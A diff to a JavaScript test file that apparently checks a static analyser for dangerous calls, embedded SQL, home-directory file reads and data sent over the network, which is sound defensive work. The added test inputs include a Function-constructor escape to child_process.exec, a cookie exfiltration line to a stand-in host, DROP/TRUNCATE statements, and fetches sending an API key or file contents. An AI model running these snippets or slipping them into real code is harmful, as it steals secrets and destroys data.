@@ -22,6 +22,13 @@ describe("names of what is called", () => {
 		["const g = fs.rmSync; g('a')", "fs.rmSync"],
 		["globalThis.eval('1')", "eval"],
 		["(await import('fs')).x; require?.('fs')\nfetch('x')", "fetch"],
+		["new Function('return process')().mainModule.require('child_process').exec('a')", "child_process.exec"],
+		[
+			"const { promisify } = require('util'); const e = promisify(require('child_process').exec); e('a')",
+			"child_process.exec",
+		],
+		["const F = (() => {}).constructor; F('a')()", "Function"],
+		["image.src = 'https://h.example/?' + document.cookie", "network.send"],
 		["`a \u0024{eval('1')}`", "eval"],
 	])("%s", (code, name) => expect(calls(code)).toContain(name));
 
@@ -41,7 +48,31 @@ it.each<[string, Language, string]>([
 	["const cp = require('child_process'); cp.exec(`a \u0024{x}`)", "shell", "a $v"],
 	["eval('\\x61lert(1)')", "javascript", "alert(1)"],
 	["fetch('https://h.example/a')", "url", "https://h.example/a"],
+	["await db.query('DROP TABLE a')", "sql", "DROP TABLE a"],
+	["await prisma.$executeRaw`TRUNCATE TABLE a CASCADE`", "sql", "TRUNCATE TABLE a CASCADE"],
 ])("%s is read within", (code, language, text) => expect(read(code).within).toContainEqual({ language, text }));
+
+it.each([
+	["fs.readFileSync(os.homedir() + '/.a')", "~/.a"],
+	["fs.readFileSync(path.join(os.homedir(), '.a', 'b'))", "~/.a/b"],
+	["const h = process.env.HOME; fs.readFileSync(`a`); fs.readFileSync(h + '/.b')", "~/.b"],
+])("finds the file of %s", (code, path) => {
+	expect(read(code).facts.flatMap(({ kind, has }) => (kind === "path" ? (has["path"] ?? []) : []))).toContain(path);
+});
+
+it.each([
+	["const k = process.env.API_KEY; fetch('https://h.example', { body: k })", "secret"],
+	["const d = fs.readFileSync('a'); const r = https.request(o); r.end(d)", "file"],
+	["fetch('https://h.example', { body: 'a' })", undefined],
+])("knows what %s hands over", (code, carried) => {
+	const sent = read(code).facts.filter(({ kind, has }) => kind === "call" && has["carries"] !== undefined);
+	expect(sent.at(-1)?.has["carries"]?.[0]).toBe(carried);
+});
+
+it("takes the method of a request from its settings", () => {
+	const { facts } = read("fetch('https://h.example/a', { method: 'DELETE' })");
+	expect(facts.find(({ kind }) => kind === "request")?.has["method"]).toEqual(["DELETE"]);
+});
 
 it("gives spans in the text", () => {
 	const code = "let a = 1;\nfs.rmSync( 'b' );";
